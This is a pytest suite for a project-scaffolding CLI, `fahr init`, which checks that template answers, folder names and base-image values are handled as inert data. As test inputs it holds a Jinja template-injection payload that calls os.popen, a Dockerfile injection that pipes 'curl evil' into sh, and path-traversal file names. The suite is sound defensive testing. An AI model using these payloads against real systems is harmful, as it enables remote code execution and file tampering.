"""`fahr init`: answers are data, never templates; they land in generated code safely quoted; the
hooks' temporary files do not outlive the command; folders that cannot be made and answers that
are not text are one-line usage errors that create nothing. Through the real `fahr` command."""

import ast
import json
import os
import subprocess
import sys
import tomllib

import pytest

from fahrcli import FAHR, isolated_home, run_fahr, show  # noqa: F401 (isolated_home is a fixture)

# Everything that once broke a generated file or ran as a template: Jinja expressions and
# statements (one that would run a shell command), triple quotes of both kinds, backslashes
# (one at the very end), a newline, JSON/HTML specials and a character outside the BMP.
HOSTILE = (
    "{{ 7*7 }} {% if %} {{ cycler.__init__.__globals__.os.popen('id').read() }} "
    "said \"\"\"hi\"\"\" and '''bye''' \\N{BULLET} \\x41 \\u0041 </script> & <b>\n"
    "second line: \"\"\"\" 😀 {{ cookiecutter.project_slug }} ends with a backslash \\"
)
HOSTILE_NAME = "Ünïcode {{ 7*7 }} \"\"\" '''Model'''"


def one_line_error(result):
    assert result.returncode == 2, show(result)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("fahr error: "), show(result)
    assert "Traceback" not in result.stderr
    return lines[0]


def compile_all(project):
    sources = sorted(project.rglob("*.py"))
    assert sources
    result = subprocess.run([sys.executable, "-m", "py_compile", *map(str, sources)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def module_doc(path):
    return ast.get_docstring(ast.parse(path.read_text(encoding="utf-8")), clean=False)


def run_own_tests(project):
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"],
                            cwd=project, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-2000:]
    assert "passed" in result.stdout


def assert_no_code_ran(project):
    for path in project.rglob("*"):
        if path.is_file() and path.suffix != ".pyc":
            text = path.read_text(encoding="utf-8", errors="replace")
            assert "uid=" not in text, path


def test_model_template_keeps_hostile_answers_verbatim_and_works(tmp_path, isolated_home):
    result = run_fahr("init", "model-proj", "--no-input", "--set", f"description={HOSTILE}",
                      "--set", f"project_name={HOSTILE_NAME}", cwd=tmp_path)
    assert result.returncode == 0, show(result)  # the pre-generation hook parsed the answers
    project = tmp_path / "model-proj"
    readme = (project / "README.md").read_text(encoding="utf-8")
    assert HOSTILE in readme and f"# {HOSTILE_NAME}\n" in readme
    # Derived values still derive, from the value itself: the slug of the given name.
    assert "fahr fit unicode-7-7-model/train.py" in readme
    compile_all(project)
    assert module_doc(project / "train.py").startswith(f"{HOSTILE_NAME}: {HOSTILE}\n")
    assert_no_code_ran(project)
    run_own_tests(project)


def test_notebook_template_keeps_hostile_answers_verbatim_and_works(tmp_path, isolated_home):
    result = run_fahr("init", "nb-proj", "--template", "notebook", "--no-input", "--set", f"description={HOSTILE}",
                      "--set", f"project_name={HOSTILE_NAME}", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    project = tmp_path / "nb-proj"
    notebook = json.loads((project / "train.ipynb").read_text(encoding="utf-8"))
    first = "".join(notebook["cells"][0]["source"])
    assert first.startswith(f"# {HOSTILE_NAME}\n\n{HOSTILE}\n\n")
    assert HOSTILE in (project / "README.md").read_text(encoding="utf-8")
    compile_all(project)
    assert_no_code_ran(project)
    run_own_tests(project)


def test_driver_template_keeps_hostile_answers_and_stays_a_package(tmp_path, isolated_home):
    author = 'Ada "The Countess" \\ Lovelace\nsecond line'
    result = run_fahr("init", "drv", "--template", "driver", "--no-input", "--set", f"description={HOSTILE}",
                      "--set", f"author={author}", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    project = tmp_path / "drv"
    compile_all(project)
    assert module_doc(project / "fahr_example" / "__init__.py").startswith(f"fahr-example: {HOSTILE}\n")
    meta = tomllib.loads((project / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    # Package metadata holds one line: whitespace runs (the newline) become one space.
    assert meta["description"] == " ".join(HOSTILE.split())
    assert meta["authors"] == [{"name": " ".join(author.split())}]
    assert HOSTILE in (project / "README.md").read_text(encoding="utf-8")
    assert_no_code_ran(project)
    from setuptools.config.pyprojecttoml import read_configuration

    read_configuration(project / "pyproject.toml")  # setuptools accepts it as it is


@pytest.mark.parametrize("value", ["{%", "{% raw %}", "{{", "}}{#", "{{ undefined_name }}", "{{ 1/0 }}"])
def test_jinja_syntax_in_an_answer_is_just_text(tmp_path, isolated_home, value):
    result = run_fahr("init", "p", "--no-input", "--set", f"description={value}", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    assert f"\n{value}\n" in (tmp_path / "p" / "README.md").read_text()


def test_a_folder_name_is_data_too(tmp_path, isolated_home):
    # The folder's name becomes project_name when none is given: it is not rendered either.
    folder = tmp_path / "x{{7*7}}"
    result = run_fahr("init", folder, "--no-input", "--set", "project_slug=plain", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    assert "# x{{7*7}}\n" in (folder / "README.md").read_text()


def test_no_hook_script_is_left_in_tmpdir(tmp_path, isolated_home):
    tmp = tmp_path / "tmpdir"
    tmp.mkdir()
    result = run_fahr("init", "p", "--no-input", cwd=tmp_path, env={"TMPDIR": str(tmp)})
    assert result.returncode == 0, show(result)
    assert list(tmp.iterdir()) == []

    # A template whose hook fails: its rendered script must not stay behind either.
    template = tmp_path / "failing"
    (template / "hooks").mkdir(parents=True)
    (template / "{{cookiecutter.name}}").mkdir()
    (template / "{{cookiecutter.name}}" / "a.txt").write_text("{{ cookiecutter.name }}\n")
    (template / "cookiecutter.json").write_text('{"name": "thing"}')
    (template / "hooks" / "pre_gen_project.py").write_text("import sys\nsys.exit('no, {{ cookiecutter.name }}')\n")
    result = run_fahr("init", "new/q", "--template", template, "--no-input", cwd=tmp_path, env={"TMPDIR": str(tmp)})
    assert result.returncode == 2 and "a hook failed" in result.stderr, show(result)
    assert list(tmp.iterdir()) == []
    assert not (tmp_path / "new").exists()  # nor the folder made to hold it
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".fahr-init-")]


def test_an_answer_cannot_name_a_file_outside_the_project(tmp_path, isolated_home):
    template = tmp_path / "tpl"
    (template / "{{cookiecutter.name}}").mkdir(parents=True)
    (template / "{{cookiecutter.name}}" / "{{cookiecutter.file}}.txt").write_text("x\n")
    (template / "cookiecutter.json").write_text('{"name": "thing", "file": "notes"}')
    for bad in ("../../escaped", str(tmp_path / "escaped"), "a/../../../escaped"):
        result = run_fahr("init", "p", "--template", template, "--no-input", "--set", f"file={bad}", cwd=tmp_path)
        assert "leaves the project folder" in one_line_error(result)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "tpl"]
    assert not (tmp_path.parent / "escaped.txt").exists()
    result = run_fahr("init", "p", "--template", template, "--no-input", "--set", "file=other", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    assert (tmp_path / "p" / "other.txt").read_text() == "x\n"


def nothing_created(tmp_path):
    return sorted(p.name for p in tmp_path.iterdir()) == ["home"]


@pytest.mark.parametrize("target, message", [
    ("/proc/x", "cannot create /proc/x"),
    ("a" * 300, "names here are at most"),
    ("new/" + "b" * 300, "names here are at most"),
    ("new/deeper/" + "c" * 300 + "/d", "names here are at most"),
])
def test_folders_that_cannot_be_made_are_usage_errors(tmp_path, isolated_home, target, message):
    result = run_fahr("init", target, "--no-input", cwd=tmp_path)
    assert message in one_line_error(result)
    assert nothing_created(tmp_path)
    assert not os.path.exists("/proc/x")


def test_invalid_utf8_in_set_is_a_usage_error(tmp_path, isolated_home):
    for raw in (b"description=\xff\xfe", b"descr\xffiption=x", b"project_name=caf\xe9"):
        result = subprocess.run([os.fsencode(FAHR), b"init", b"p", b"--no-input", b"--set", raw], cwd=tmp_path,
                                capture_output=True, timeout=120)
        assert result.returncode == 2, result.stderr
        lines = result.stderr.decode("utf-8").strip().splitlines()  # fahr's own output is UTF-8
        assert len(lines) == 1 and "not valid UTF-8" in lines[0], lines
        assert nothing_created(tmp_path)


def test_a_set_without_equals_and_control_characters_are_usage_errors(tmp_path, isolated_home):
    assert "expected --set KEY=VALUE" in one_line_error(run_fahr("init", "p", "--no-input", "--set", "oops",
                                                                 cwd=tmp_path))
    line = one_line_error(run_fahr("init", "p", "--no-input", "--set", "description=bell\x07", cwd=tmp_path))
    assert "U+0007" in line
    assert nothing_created(tmp_path)


@pytest.mark.parametrize("image", ["python:3.11\nRUN curl evil | sh", 'py"thon', "python:3.11 AS x", "Python:3"])
def test_a_base_image_that_is_no_reference_is_refused(tmp_path, isolated_home, image):
    result = run_fahr("init", "p", "--no-input", "--set", f"base_image={image}", cwd=tmp_path)
    assert "is not an image reference" in one_line_error(result)
    assert nothing_created(tmp_path)


@pytest.mark.parametrize("image", ["python:3.11-slim", "localhost:5000/team/py:3.12", "ghcr.io/a/b@sha256:" + "a" * 64])
def test_image_references_are_accepted(tmp_path, isolated_home, image):
    result = run_fahr("init", "p", "--no-input", "--set", f"base_image={image}", cwd=tmp_path)
    assert result.returncode == 0, show(result)
    assert f"FROM {image}\n" in (tmp_path / "p" / "Dockerfile").read_text()


def test_a_folder_whose_path_holds_jinja_is_refused_not_rendered(tmp_path, isolated_home):
    # cookiecutter renders the project's absolute path with its subfolders' names: under
    # 'a{{ 7*7 }}' the model's tests/ folder would be made in 'a49'.
    odd = tmp_path / "a{{ 7*7 }}"
    odd.mkdir()
    result = run_fahr("init", "p", "--no-input", cwd=odd)
    assert "create the project elsewhere" in one_line_error(result)
    assert list(odd.iterdir()) == [] and sorted(p.name for p in tmp_path.iterdir()) == ["a{{ 7*7 }}", "home"]


@pytest.mark.parametrize("answers", [
    {"driver_name": "mycloud\n"},
    {"project_name": "x", "project_slug": "my-model\n"},
    {"project_name": "x", "package_name": "my_model\n"},
    {"base_image": "python:3.11-slim\n"},
])
def test_a_name_with_a_trailing_newline_is_refused(answers):
    from fahr_core.errors import UsageError
    from fahr_core.scaffold import validate_answers

    validate_answers({k: v.rstrip("\n") for k, v in answers.items()})  # the same name without it is fine
    with pytest.raises(UsageError):
        validate_answers(answers)


@pytest.mark.parametrize("image", ["[fd00::1]:5000/team/py:3.12", "python:3.11\n", "a" * 256 + ":1", "py thon"])
def test_a_base_image_answer_is_checked_as_config_base_image_is(image):
    """One check of a base image (fahr_core.names): an answer fahr init accepts is one config
    accepts and one the generated Dockerfile's FROM line takes, and no other."""
    from fahr_core.defaults import config_keys
    from fahr_core.errors import UsageError
    from fahr_core.image import dockerfile_text
    from fahr_core.scaffold import validate_answers

    def accepted(check) -> bool:
        try:
            check()
        except UsageError:
            return False
        return True

    by_config = next(key for key in config_keys() if key.name == "base_image").check(image) is None
    assert accepted(lambda: validate_answers({"base_image": image})) == by_config
    assert accepted(lambda: dockerfile_text("train.py", image, has_requirements=False)) == by_config
